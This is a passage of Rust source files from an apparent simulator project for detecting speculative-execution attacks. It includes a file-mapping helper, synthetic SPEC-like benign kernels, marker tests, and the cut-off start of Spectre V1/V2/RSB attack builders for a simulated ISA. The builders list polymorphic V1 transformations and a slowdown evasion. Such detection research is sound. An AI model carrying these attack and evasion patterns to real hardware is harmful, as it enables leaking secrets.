//! positioned reads (`pread`); the corpus reader does exactly that.

use std::fs::File;
use std::io;

/// A read-only memory mapping of an entire file.
///
/// The mapping is private (`MAP_PRIVATE`) and read-only (`PROT_READ`), so
/// it can never write back to the file; it is unmapped when dropped.
/// Empty files map to an empty slice without touching `mmap` at all
/// (zero-length mappings are an `EINVAL` on Linux).
#[derive(Debug)]
pub struct MappedFile {
    ptr: *const u8,
    len: usize,
}

// SAFETY: the mapping is immutable for its whole lifetime (PROT_READ,
// private) and owned exclusively by this struct, so sharing references
// across threads is as safe as sharing any &[u8].
unsafe impl Send for MappedFile {}
unsafe impl Sync for MappedFile {}

#[cfg(unix)]
mod sys {
    use std::ffi::{c_int, c_void};

    pub const PROT_READ: c_int = 1;
    pub const MAP_PRIVATE: c_int = 2;

    extern "C" {
        pub fn mmap(
            addr: *mut c_void,
            len: usize,
            prot: c_int,
            flags: c_int,
            fd: c_int,
            offset: i64,
        ) -> *mut c_void;
        pub fn munmap(addr: *mut c_void, len: usize) -> c_int;
    }
}

impl MappedFile {
    /// Maps `file` read-only in its entirety.
    ///
    /// # Errors
    ///
    /// Returns the underlying OS error when the mapping fails, and an
    /// [`io::ErrorKind::Unsupported`] error on targets without `mmap`;
    /// callers are expected to fall back to positioned reads.
    pub fn map(file: &File) -> io::Result<Self> {
        let len = file.metadata()?.len();
        let len = usize::try_from(len).map_err(|_| {
            io::Error::new(io::ErrorKind::InvalidInput, "file exceeds address space")
        })?;
        if len == 0 {
            return Ok(Self {
                ptr: std::ptr::NonNull::<u8>::dangling().as_ptr(),
                len: 0,
            });
        }
        Self::map_inner(file, len)
    }

    #[cfg(unix)]
    fn map_inner(file: &File, len: usize) -> io::Result<Self> {
        use std::os::unix::io::AsRawFd;
        // SAFETY: fd is a valid open file for the duration of the call;
        // we request a fresh private read-only mapping (addr = null) and
        // check for MAP_FAILED before trusting the pointer.
        let ptr = unsafe {
            sys::mmap(
                std::ptr::null_mut(),
                len,
                sys::PROT_READ,
                sys::MAP_PRIVATE,
                file.as_raw_fd(),
                0,
            )
        };
        if ptr as isize == -1 {
            return Err(io::Error::last_os_error());
        }
        Ok(Self {
            ptr: ptr as *const u8,
            len,
        })
    }

    #[cfg(not(unix))]
    fn map_inner(_file: &File, _len: usize) -> io::Result<Self> {
        Err(io::Error::new(
            io::ErrorKind::Unsupported,
            "memory mapping is only wired up on Unix targets",
        ))
    }

    /// The mapped bytes.
    pub fn as_bytes(&self) -> &[u8] {
        if self.len == 0 {
            return &[];
        }
        // SAFETY: ptr/len came from a successful mmap that lives until
        // drop, and the mapping is never mutated.
        unsafe { std::slice::from_raw_parts(self.ptr, self.len) }
    }

    /// Mapped length in bytes.
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the mapping is empty.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }
}

impl Drop for MappedFile {
    fn drop(&mut self) {
        #[cfg(unix)]
        if self.len > 0 {
            // SAFETY: exactly the region returned by mmap in map_inner.
            unsafe {
                sys::munmap(self.ptr as *mut std::ffi::c_void, self.len);
            }
        }
    }
}

impl std::ops::Deref for MappedFile {
    type Target = [u8];

    fn deref(&self) -> &[u8] {
        self.as_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn maps_a_file_and_reads_it_back() {
        let dir = std::env::temp_dir();
        let path = dir.join(format!("perspectron_mmap_test_{}", std::process::id()));
        let payload = b"PSPC mapped bytes round-trip";
        std::fs::File::create(&path)
            .and_then(|mut f| f.write_all(payload))
            .expect("write temp file");
        let file = File::open(&path).expect("open");
        let map = MappedFile::map(&file).expect("mmap should work on a unix test host");
        assert_eq!(&map[..], payload);
        assert_eq!(map.len(), payload.len());
        drop(map);
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn empty_files_map_to_an_empty_slice() {
        let dir = std::env::temp_dir();
        let path = dir.join(format!("perspectron_mmap_empty_{}", std::process::id()));
        std::fs::File::create(&path).expect("create");
        let file = File::open(&path).expect("open");
        let map = MappedFile::map(&file).expect("empty map");
        assert!(map.is_empty());
        assert_eq!(&map[..], b"");
        std::fs::remove_file(&path).ok();
    }
}
