//! Every attack builder must assemble and carry the simulator-mark
//! annotations experiments rely on (phase boundaries, leak events); benign
//! builders must carry none, since marks are what labels attack phases in
//! collected traces.

use std::collections::BTreeSet;

use uarch_isa::{Inst, MarkKind, Program};
use workloads::{attack_suite, bandwidth_suite, benign_suite, polymorphic_suite, Family, Workload};

fn marks(p: &Program) -> BTreeSet<MarkKind> {
    p.code()
        .iter()
        .filter_map(|i| match i {
            Inst::Mark(k) => Some(*k),
            _ => None,
        })
        .collect()
}

fn assert_attack_marks(w: &Workload) {
    let m = marks(&w.program);
    assert!(!w.program.is_empty(), "{}: empty program", w.name);
    assert!(
        m.contains(&MarkKind::PhasePrime),
        "{}: missing PhasePrime",
        w.name
    );
    assert!(
        m.contains(&MarkKind::IterationEnd),
        "{}: missing IterationEnd",
        w.name
    );
    // Calibration loops only measure the probe primitive; full attacks
    // annotate the speculation window, the disclosure phase and each
    // recovered byte.
    if w.family != Family::Calibration {
        for k in [
            MarkKind::PhaseSpeculate,
            MarkKind::PhaseProbe,
            MarkKind::LeakByte,
        ] {
            assert!(m.contains(&k), "{}: missing {k:?}", w.name);
        }
    }
}

#[test]
fn attack_builders_assemble_with_phase_marks() {
    for w in attack_suite() {
        assert_attack_marks(&w);
    }
}

#[test]
fn polymorphic_and_bandwidth_variants_keep_their_marks() {
    for w in polymorphic_suite() {
        assert_attack_marks(&w);
    }
    for (_, w) in bandwidth_suite() {
        assert_attack_marks(&w);
    }
}

#[test]
fn benign_builders_carry_no_marks() {
    for w in benign_suite() {
        assert!(
            marks(&w.program).is_empty(),
            "{}: benign programs must not carry attack-phase marks",
            w.name
        );
    }
}
