//! Benign workloads: synthetic kernels named after the SPEC CPU 2006
//! programs whose behavior they imitate.
//!
//! The paper's benign set is SPEC CPU 2006; its false-positive-prone
//! members (h264ref, povray, gcc, sjeng, gobmk, dealII, bzip2) are memory-,
//! branch- or FP-intensive. Each kernel here reproduces one of those
//! behavioral axes so the detector has to discriminate attacks from
//! legitimately cache- and branch-aggressive code. All kernels loop forever
//! (the driver bounds them by instruction count).

use uarch_isa::{AsmError, Assembler, FaluOp, Program, Reg};

/// Deterministic data generator (tiny LCG; keeps workload bytes stable
/// across runs without threading a seed through every builder).
fn pseudo_bytes(n: usize, mut state: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        out.push((state >> 33) as u8);
    }
    out
}

const ARENA: u64 = 0x60_0000;

/// bzip2-like: byte-stream transform (move-to-front flavored) over a 64 KB
/// buffer; mixes byte loads/stores with data-dependent branches.
pub fn bzip2() -> Result<Program, AsmError> {
    let mut a = Assembler::new("bzip2");
    a.data(ARENA, pseudo_bytes(64 * 1024, 0xb21b));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, (ARENA + 64 * 1024) as i64);
    a.li(Reg::R12, 0); // running transform state
    let top = a.label();
    let small = a.label();
    let cont = a.label();
    a.bind(top);
    a.loadb(Reg::R13, Reg::R10, 0);
    a.add(Reg::R12, Reg::R12, Reg::R13);
    a.li(Reg::R14, 128);
    a.blt(Reg::R13, Reg::R14, small);
    a.xori(Reg::R13, Reg::R13, 0x5f);
    a.jmp(cont);
    a.bind(small);
    a.addi(Reg::R13, Reg::R13, 1);
    a.bind(cont);
    a.storeb(Reg::R13, Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, 1);
    a.blt(Reg::R10, Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// gcc-like: pointer chasing over a linked node arena plus a branchy
/// "opcode" dispatch — irregular memory plus hard-to-predict branches.
pub fn gcc() -> Result<Program, AsmError> {
    let mut a = Assembler::new("gcc");
    // Nodes: 4096 nodes of 16 bytes [next: u64, op: u64] in a scrambled
    // permutation cycle.
    let n = 4096u64;
    let mut data = vec![0u8; (n * 16) as usize];
    let mut perm: Vec<u64> = (0..n).collect();
    // Deterministic shuffle.
    let mut s = 0x9cc9u64;
    for i in (1..n as usize).rev() {
        s = s.wrapping_mul(6364136223846793005).wrapping_add(1);
        let j = (s >> 33) as usize % (i + 1);
        perm.swap(i, j);
    }
    for i in 0..n as usize {
        let next = ARENA + perm[i] * 16;
        let op = (s.wrapping_add(i as u64 * 7)) % 4;
        data[i * 16..i * 16 + 8].copy_from_slice(&next.to_le_bytes());
        data[i * 16 + 8..i * 16 + 16].copy_from_slice(&op.to_le_bytes());
    }
    a.data(ARENA, data);
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, 4096);
    let top = a.label();
    let (op0, op1, op2, done) = (a.label(), a.label(), a.label(), a.label());
    a.bind(top);
    a.load(Reg::R12, Reg::R10, 8); // op
    a.li(Reg::R13, 1);
    a.blt(Reg::R12, Reg::R13, op0);
    a.li(Reg::R13, 2);
    a.blt(Reg::R12, Reg::R13, op1);
    a.li(Reg::R13, 3);
    a.blt(Reg::R12, Reg::R13, op2);
    a.mul(Reg::R14, Reg::R12, Reg::R12);
    a.jmp(done);
    a.bind(op0);
    a.addi(Reg::R14, Reg::R14, 3);
    a.jmp(done);
    a.bind(op1);
    a.xori(Reg::R14, Reg::R14, 0xff);
    a.jmp(done);
    a.bind(op2);
    a.shli(Reg::R14, Reg::R14, 1);
    a.bind(done);
    a.load(Reg::R10, Reg::R10, 0); // chase next
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// mcf-like: repeated shortest-path arc relaxation over adjacency arrays —
/// memory-bound with data-dependent updates.
pub fn mcf() -> Result<Program, AsmError> {
    let mut a = Assembler::new("mcf");
    let nodes = 2048u64;
    let arcs = 8192u64;
    // dist[] at ARENA, arcs [(u, v, w); arcs] at ARENA + nodes*8.
    a.data(ARENA, vec![0x7f; (nodes * 8) as usize]);
    let mut arc_data = Vec::with_capacity((arcs * 24) as usize);
    let mut s = 0x3cf3u64;
    for _ in 0..arcs {
        s = s.wrapping_mul(6364136223846793005).wrapping_add(1);
        let u = (s >> 13) % nodes;
        let v = (s >> 33) % nodes;
        let w = (s >> 51) % 97;
        arc_data.extend_from_slice(&u.to_le_bytes());
        arc_data.extend_from_slice(&v.to_le_bytes());
        arc_data.extend_from_slice(&w.to_le_bytes());
    }
    let arc_base = ARENA + nodes * 8;
    a.data(arc_base, arc_data);
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, arc_base as i64);
    a.li(Reg::R11, arcs as i64);
    let top = a.label();
    let no_update = a.label();
    a.bind(top);
    a.load(Reg::R12, Reg::R10, 0); // u
    a.load(Reg::R13, Reg::R10, 8); // v
    a.load(Reg::R14, Reg::R10, 16); // w
    a.shli(Reg::R12, Reg::R12, 3);
    a.addi(Reg::R12, Reg::R12, ARENA as i64);
    a.load(Reg::R15, Reg::R12, 0); // dist[u]
    a.add(Reg::R15, Reg::R15, Reg::R14);
    a.shli(Reg::R13, Reg::R13, 3);
    a.addi(Reg::R13, Reg::R13, ARENA as i64);
    a.load(Reg::R16, Reg::R13, 0); // dist[v]
    a.bge(Reg::R15, Reg::R16, no_update);
    a.store(Reg::R15, Reg::R13, 0);
    a.bind(no_update);
    a.addi(Reg::R10, Reg::R10, 24);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// hmmer-like: integer dynamic-programming inner loop (running max of
/// score recurrences) — ALU-dense with predictable branches.
pub fn hmmer() -> Result<Program, AsmError> {
    let mut a = Assembler::new("hmmer");
    a.data(ARENA, pseudo_bytes(32 * 1024, 0x4a3e));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, 4096);
    a.li(Reg::R12, 0); // m
    a.li(Reg::R13, 0); // i-score
    let top = a.label();
    let keep = a.label();
    a.bind(top);
    a.loadb(Reg::R14, Reg::R10, 0);
    a.add(Reg::R15, Reg::R12, Reg::R14);
    a.subi(Reg::R16, Reg::R13, 3);
    a.bge(Reg::R16, Reg::R15, keep);
    a.mv(Reg::R16, Reg::R15);
    a.bind(keep);
    a.mv(Reg::R12, Reg::R13);
    a.mv(Reg::R13, Reg::R16);
    a.addi(Reg::R10, Reg::R10, 1);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// sjeng-like: chess-style search — xorshift-driven unpredictable branches
/// over table lookups.
pub fn sjeng() -> Result<Program, AsmError> {
    let mut a = Assembler::new("sjeng");
    a.data(ARENA, pseudo_bytes(128 * 1024, 0x53e6));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, 0x123456789); // rng state
    a.li(Reg::R11, 8192); // iterations
    let top = a.label();
    let (b0, b1, join) = (a.label(), a.label(), a.label());
    a.bind(top);
    // xorshift64
    a.shli(Reg::R12, Reg::R10, 13);
    a.xor(Reg::R10, Reg::R10, Reg::R12);
    a.shri(Reg::R12, Reg::R10, 7);
    a.xor(Reg::R10, Reg::R10, Reg::R12);
    a.shli(Reg::R12, Reg::R10, 17);
    a.xor(Reg::R10, Reg::R10, Reg::R12);
    // Table lookup at a random slot.
    a.andi(Reg::R12, Reg::R10, (128 * 1024 - 1) & !7);
    a.addi(Reg::R12, Reg::R12, ARENA as i64);
    a.load(Reg::R13, Reg::R12, 0);
    // Unpredictable branch on bit 5.
    a.andi(Reg::R14, Reg::R10, 32);
    a.bnez(Reg::R14, b0);
    a.add(Reg::R15, Reg::R15, Reg::R13);
    a.jmp(join);
    a.bind(b0);
    a.andi(Reg::R14, Reg::R10, 64);
    a.bnez(Reg::R14, b1);
    a.sub(Reg::R15, Reg::R15, Reg::R13);
    a.jmp(join);
    a.bind(b1);
    a.xor(Reg::R15, Reg::R15, Reg::R13);
    a.bind(join);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// gobmk-like: Go board scans — nested loops over a 2D byte board with
/// neighbor counting and branchy liberties checks.
pub fn gobmk() -> Result<Program, AsmError> {
    let mut a = Assembler::new("gobmk");
    let board = 64u64; // 64x64 board
    a.data(ARENA, pseudo_bytes((board * board) as usize, 0x60b2));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, 1); // row
    let row_loop = a.label();
    a.bind(row_loop);
    a.li(Reg::R11, 1); // col
    let col_loop = a.label();
    let occupied = a.label();
    let next = a.label();
    a.bind(col_loop);
    // addr = ARENA + row*64 + col
    a.shli(Reg::R12, Reg::R10, 6);
    a.add(Reg::R12, Reg::R12, Reg::R11);
    a.addi(Reg::R12, Reg::R12, ARENA as i64);
    a.loadb(Reg::R13, Reg::R12, 0);
    a.andi(Reg::R13, Reg::R13, 3);
    a.bnez(Reg::R13, occupied);
    a.addi(Reg::R14, Reg::R14, 1); // empty count
    a.jmp(next);
    a.bind(occupied);
    // Count neighbors.
    a.loadb(Reg::R15, Reg::R12, -1);
    a.loadb(Reg::R16, Reg::R12, 1);
    a.add(Reg::R15, Reg::R15, Reg::R16);
    a.loadb(Reg::R16, Reg::R12, -(board as i64));
    a.add(Reg::R15, Reg::R15, Reg::R16);
    a.loadb(Reg::R16, Reg::R12, board as i64);
    a.add(Reg::R15, Reg::R15, Reg::R16);
    a.add(Reg::R17, Reg::R17, Reg::R15);
    a.bind(next);
    a.addi(Reg::R11, Reg::R11, 1);
    a.li(Reg::R18, (board - 1) as i64);
    a.blt(Reg::R11, Reg::R18, col_loop);
    a.addi(Reg::R10, Reg::R10, 1);
    a.blt(Reg::R10, Reg::R18, row_loop);
    a.jmp(outer);
    a.finish()
}

/// libquantum-like: streaming toggles — long sequential passes XOR-ing a
/// large array (bandwidth bound, very regular).
pub fn libquantum() -> Result<Program, AsmError> {
    let mut a = Assembler::new("libquantum");
    a.data(ARENA, pseudo_bytes(512 * 1024, 0x11b));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, (ARENA + 512 * 1024) as i64);
    let top = a.label();
    a.bind(top);
    a.load(Reg::R12, Reg::R10, 0);
    a.xori(Reg::R12, Reg::R12, 0x40);
    a.store(Reg::R12, Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, 8);
    a.blt(Reg::R10, Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// h264ref-like: sum-of-absolute-differences over 16×16 blocks using the
/// SIMD lanes — streaming reads plus vector arithmetic.
pub fn h264ref() -> Result<Program, AsmError> {
    let mut a = Assembler::new("h264ref");
    a.data(ARENA, pseudo_bytes(256 * 1024, 0x264));
    let frame2 = ARENA + 128 * 1024;
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, frame2 as i64);
    a.li(Reg::R12, 4096); // blocks of 32 bytes
    let top = a.label();
    a.bind(top);
    a.load(Reg::R13, Reg::R10, 0);
    a.load(Reg::R14, Reg::R11, 0);
    a.falu(FaluOp::VAdd, Reg::R15, Reg::R13, Reg::R14);
    a.load(Reg::R13, Reg::R10, 8);
    a.load(Reg::R14, Reg::R11, 8);
    a.falu(FaluOp::VMul, Reg::R16, Reg::R13, Reg::R14);
    a.falu(FaluOp::VCvt, Reg::R17, Reg::R15, Reg::R16);
    a.add(Reg::R18, Reg::R18, Reg::R17);
    a.addi(Reg::R10, Reg::R10, 32);
    a.addi(Reg::R11, Reg::R11, 32);
    a.subi(Reg::R12, Reg::R12, 1);
    a.bnez(Reg::R12, top);
    a.jmp(outer);
    a.finish()
}

/// astar-like: grid pathfinding sweep — frontier array scans with
/// comparisons and irregular branch outcomes.
pub fn astar() -> Result<Program, AsmError> {
    let mut a = Assembler::new("astar");
    a.data(ARENA, pseudo_bytes(64 * 1024, 0xa57a));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, 8192);
    a.li(Reg::R12, 255); // best cost
    let top = a.label();
    let not_better = a.label();
    a.bind(top);
    a.loadb(Reg::R13, Reg::R10, 0); // g
    a.loadb(Reg::R14, Reg::R10, 1); // h
    a.add(Reg::R15, Reg::R13, Reg::R14); // f = g + h
    a.bge(Reg::R15, Reg::R12, not_better);
    a.mv(Reg::R12, Reg::R15);
    a.storeb(Reg::R15, Reg::R10, 2);
    a.bind(not_better);
    a.addi(Reg::R10, Reg::R10, 8);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, top);
    a.jmp(outer);
    a.finish()
}

/// omnetpp-like: discrete-event simulation — binary-heap sift operations on
/// an event queue (pointer arithmetic + compare/swap chains).
pub fn omnetpp() -> Result<Program, AsmError> {
    let mut a = Assembler::new("omnetpp");
    let n = 4096u64;
    a.data(ARENA, pseudo_bytes((n * 8) as usize, 0x03e7));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, 1); // heap index
    let sift = a.label();
    let no_swap = a.label();
    a.bind(sift);
    // parent = i/2; compare heap[i] and heap[parent]; swap if smaller.
    a.shri(Reg::R11, Reg::R10, 1);
    a.shli(Reg::R12, Reg::R10, 3);
    a.addi(Reg::R12, Reg::R12, ARENA as i64);
    a.shli(Reg::R13, Reg::R11, 3);
    a.addi(Reg::R13, Reg::R13, ARENA as i64);
    a.load(Reg::R14, Reg::R12, 0);
    a.load(Reg::R15, Reg::R13, 0);
    a.bge(Reg::R14, Reg::R15, no_swap);
    a.store(Reg::R15, Reg::R12, 0);
    a.store(Reg::R14, Reg::R13, 0);
    a.bind(no_swap);
    a.addi(Reg::R10, Reg::R10, 1);
    a.li(Reg::R16, n as i64);
    a.blt(Reg::R10, Reg::R16, sift);
    a.jmp(outer);
    a.finish()
}

/// povray-like: ray/sphere intersection math — chains of FP multiply, add,
/// divide and square root.
pub fn povray() -> Result<Program, AsmError> {
    let mut a = Assembler::new("povray");
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, 4096); // rays
                          // Seed FP values.
    a.li(Reg::R11, 3);
    a.falu(FaluOp::FCvtIf, Reg::R12, Reg::R11, Reg::R0); // 3.0
    a.li(Reg::R11, 7);
    a.falu(FaluOp::FCvtIf, Reg::R13, Reg::R11, Reg::R0); // 7.0
    let top = a.label();
    a.bind(top);
    a.falu(FaluOp::FMul, Reg::R14, Reg::R12, Reg::R13); // b = o*d
    a.falu(FaluOp::FMul, Reg::R15, Reg::R14, Reg::R14); // b^2
    a.falu(FaluOp::FSub, Reg::R16, Reg::R15, Reg::R12); // disc
    a.falu(FaluOp::FSqrt, Reg::R17, Reg::R16, Reg::R0);
    a.falu(FaluOp::FDiv, Reg::R12, Reg::R17, Reg::R13); // t
    a.falu(FaluOp::FAdd, Reg::R13, Reg::R13, Reg::R17);
    a.subi(Reg::R10, Reg::R10, 1);
    a.bnez(Reg::R10, top);
    a.jmp(outer);
    a.finish()
}

/// dealII-like: sparse matrix-vector product — indirect index loads feeding
/// FP multiply-accumulate.
pub fn dealii() -> Result<Program, AsmError> {
    let mut a = Assembler::new("dealII");
    let nnz = 8192u64;
    // col indices (u64) then values (f64 bits).
    let mut cols = Vec::with_capacity((nnz * 8) as usize);
    let mut s = 0xdea1u64;
    for _ in 0..nnz {
        s = s.wrapping_mul(6364136223846793005).wrapping_add(1);
        cols.extend_from_slice(&(((s >> 30) % 4096) * 8).to_le_bytes());
    }
    a.data(ARENA, cols);
    let vals = ARENA + nnz * 8;
    let mut vbytes = Vec::with_capacity((nnz * 8) as usize);
    for i in 0..nnz {
        vbytes.extend_from_slice(&(1.0 + i as f64 * 0.001).to_bits().to_le_bytes());
    }
    a.data(vals, vbytes);
    let x = vals + nnz * 8;
    let mut xbytes = Vec::with_capacity(4096 * 8);
    for i in 0..4096 {
        xbytes.extend_from_slice(&(0.5 + i as f64 * 0.0001).to_bits().to_le_bytes());
    }
    a.data(x, xbytes);

    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, 0); // k
    a.li(Reg::R18, 0); // acc (f64 bits of 0.0)
    let top = a.label();
    a.bind(top);
    a.shli(Reg::R11, Reg::R10, 3);
    a.addi(Reg::R12, Reg::R11, ARENA as i64);
    a.load(Reg::R13, Reg::R12, 0); // col offset
    a.addi(Reg::R14, Reg::R13, x as i64);
    a.floadd(Reg::R15, Reg::R14, 0); // x[col]
    a.addi(Reg::R12, Reg::R11, vals as i64);
    a.floadd(Reg::R16, Reg::R12, 0); // a[k]
    a.falu(FaluOp::FMul, Reg::R17, Reg::R15, Reg::R16);
    a.falu(FaluOp::FAdd, Reg::R18, Reg::R18, Reg::R17);
    a.addi(Reg::R10, Reg::R10, 1);
    a.li(Reg::R19, nnz as i64);
    a.blt(Reg::R10, Reg::R19, top);
    a.jmp(outer);
    a.finish()
}

/// perlbench-like: string hashing and dictionary probing — byte loads,
/// multiplies and compare-heavy lookups.
pub fn perlbench() -> Result<Program, AsmError> {
    let mut a = Assembler::new("perlbench");
    a.data(ARENA, pseudo_bytes(32 * 1024, 0x9e71));
    let outer = a.label();
    a.bind(outer);
    a.li(Reg::R10, ARENA as i64);
    a.li(Reg::R11, 2048); // strings of 16 bytes
    let str_loop = a.label();
    a.bind(str_loop);
    a.li(Reg::R12, 0); // hash
    a.li(Reg::R13, 16); // len
    let ch_loop = a.label();
    a.bind(ch_loop);
    a.loadb(Reg::R14, Reg::R10, 0);
    a.li(Reg::R15, 31);
    a.mul(Reg::R12, Reg::R12, Reg::R15);
    a.add(Reg::R12, Reg::R12, Reg::R14);
    a.addi(Reg::R10, Reg::R10, 1);
    a.subi(Reg::R13, Reg::R13, 1);
    a.bnez(Reg::R13, ch_loop);
    // Probe the "dictionary": hash-indexed load back into the arena.
    a.andi(Reg::R16, Reg::R12, (32 * 1024 - 1) & !7);
    a.addi(Reg::R16, Reg::R16, ARENA as i64);
    a.load(Reg::R17, Reg::R16, 0);
    a.xor(Reg::R18, Reg::R18, Reg::R17);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, str_loop);
    a.jmp(outer);
    a.finish()
}

/// All benign builders with their names. Fails on the first kernel whose
/// assembly is inconsistent (an unbound or rebound label).
pub fn all_benign() -> Result<Vec<Program>, AsmError> {
    Ok(vec![
        bzip2()?,
        gcc()?,
        mcf()?,
        hmmer()?,
        sjeng()?,
        gobmk()?,
        libquantum()?,
        h264ref()?,
        astar()?,
        omnetpp()?,
        povray()?,
        dealii()?,
        perlbench()?,
    ])
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_cpu::{Core, CoreConfig};

    #[test]
    fn every_benign_kernel_runs_indefinitely() -> Result<(), AsmError> {
        for p in all_benign()? {
            let name = p.name().to_string();
            let mut core = Core::new(CoreConfig::default(), p);
            let s = core.run(60_000);
            assert!(!s.halted, "{name} must loop forever");
            assert!(s.committed >= 60_000, "{name} must make progress");
        }
        Ok(())
    }

    #[test]
    fn benign_kernels_do_not_fault_or_flush() -> Result<(), AsmError> {
        for p in all_benign()? {
            let name = p.name().to_string();
            let mut core = Core::new(CoreConfig::default(), p);
            core.run(60_000);
            assert_eq!(core.stats().commit.faults.value(), 0, "{name} faults");
            assert_eq!(
                core.mem().l1d().stats().agg.flush_hits.value(),
                0,
                "{name} flushes"
            );
        }
        Ok(())
    }

    #[test]
    fn fp_kernels_exercise_float_units() -> Result<(), AsmError> {
        for p in [povray()?, dealii()?, h264ref()?] {
            let name = p.name().to_string();
            let mut core = Core::new(CoreConfig::default(), p);
            core.run(60_000);
            use uarch_isa::OpClass;
            let fp = core.stats().commit.fp_insts.value();
            let simd = core.stats().commit.op_class.get(OpClass::SimdAdd)
                + core.stats().commit.op_class.get(OpClass::SimdMult)
                + core.stats().commit.op_class.get(OpClass::SimdCvt);
            assert!(fp + simd > 0, "{name} must commit FP/SIMD work");
        }
        Ok(())
    }

    #[test]
    fn branchy_kernels_mispredict_sometimes() -> Result<(), AsmError> {
        let mut core = Core::new(CoreConfig::default(), sjeng()?);
        core.run(100_000);
        assert!(
            core.stats().iew.branch_mispredicts.value() > 50,
            "sjeng's random branches must defeat the predictor sometimes"
        );
        Ok(())
    }
}
