//! The Spectre family: V1 (with its twelve polymorphic source
//! transformations), V2 (branch target injection) and SpectreRSB.

use uarch_isa::{Assembler, MarkKind, Program, Reg};

use crate::layout::{
    emit_delay, emit_flush_range, emit_probe_argmin_from, emit_record_result, emit_touch_range,
    install_common_segments, ARRAY1, ARRAY1_SIZE_ADDR, PROBE_ARRAY, SECRET, USER_SECRET,
};

/// The twelve polymorphic SpectreV1 source transformations from the paper's
/// §VI-A1 (plus the unmodified PoC).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum V1Variant {
    /// The unmodified PoC.
    Classic,
    /// Moving the leak to a function that cannot be inlined.
    LeakViaFunction,
    /// Add a left shift by one on the index.
    ShiftedIndex,
    /// Use `x` as the initial value in a `for()` loop.
    ForLoopIndex,
    /// Check the bounds with an AND mask, rather than `<`.
    MaskedBoundsCheck,
    /// Compare against the last-known good value.
    LastKnownGood,
    /// Use a separate value to communicate the safety check.
    SeparateSafetyFlag,
    /// Leak a comparison result (attacker provides both `x` and `k`).
    LeakComparison,
    /// Make the index the sum of two input parameters.
    SumIndex,
    /// Do the safety check in an inline function.
    InlineCheck,
    /// Invert the low bits of `x`.
    InvertLowBits,
    /// Use `memcmp()` to read the memory for the leak.
    MemcmpLeak,
    /// Pass a pointer to the length.
    PointerToLength,
}

impl V1Variant {
    /// All polymorphic transformations (excluding `Classic`).
    pub const POLYMORPHIC: [V1Variant; 12] = [
        V1Variant::LeakViaFunction,
        V1Variant::ShiftedIndex,
        V1Variant::ForLoopIndex,
        V1Variant::MaskedBoundsCheck,
        V1Variant::LastKnownGood,
        V1Variant::SeparateSafetyFlag,
        V1Variant::LeakComparison,
        V1Variant::SumIndex,
        V1Variant::InlineCheck,
        V1Variant::InvertLowBits,
        V1Variant::MemcmpLeak,
        V1Variant::PointerToLength,
    ];

    /// Short name used in workload identifiers.
    pub fn tag(self) -> &'static str {
        match self {
            V1Variant::Classic => "classic",
            V1Variant::LeakViaFunction => "fn-leak",
            V1Variant::ShiftedIndex => "shift-index",
            V1Variant::ForLoopIndex => "for-index",
            V1Variant::MaskedBoundsCheck => "mask-check",
            V1Variant::LastKnownGood => "last-good",
            V1Variant::SeparateSafetyFlag => "safety-flag",
            V1Variant::LeakComparison => "leak-cmp",
            V1Variant::SumIndex => "sum-index",
            V1Variant::InlineCheck => "inline-check",
            V1Variant::InvertLowBits => "invert-bits",
            V1Variant::MemcmpLeak => "memcmp-leak",
            V1Variant::PointerToLength => "len-ptr",
        }
    }
}

/// SpectreV1 build parameters.
#[derive(Debug, Clone, Copy)]
pub struct SpectreV1Params {
    /// Source transformation to apply.
    pub variant: V1Variant,
    /// Safe-filler iterations injected before priming and after disclosure
    /// (the bandwidth-reduction evasion; 0 = full-speed attack).
    pub delay_iters: i64,
}

impl Default for SpectreV1Params {
    fn default() -> Self {
        Self {
            variant: V1Variant::Classic,
            delay_iters: 0,
        }
    }
}

/// Address of the slot holding the last-known-good index / safety flag /
/// length pointer used by some variants.
const AUX_SLOT: u64 = 0x26_0000;
/// Address of the slot holding the indirect-call target for SpectreV2.
const TARGET_SLOT: u64 = 0x27_0000;

/// Builds the SpectreV1 PoC (bounds-check bypass + Flush+Reload channel).
///
/// The program loops forever, leaking one secret byte per iteration into
/// the results buffer.
pub fn spectre_v1(params: SpectreV1Params) -> Program {
    let name = if params.delay_iters > 0 {
        format!("spectre-v1-{}-slowed", params.variant.tag())
    } else {
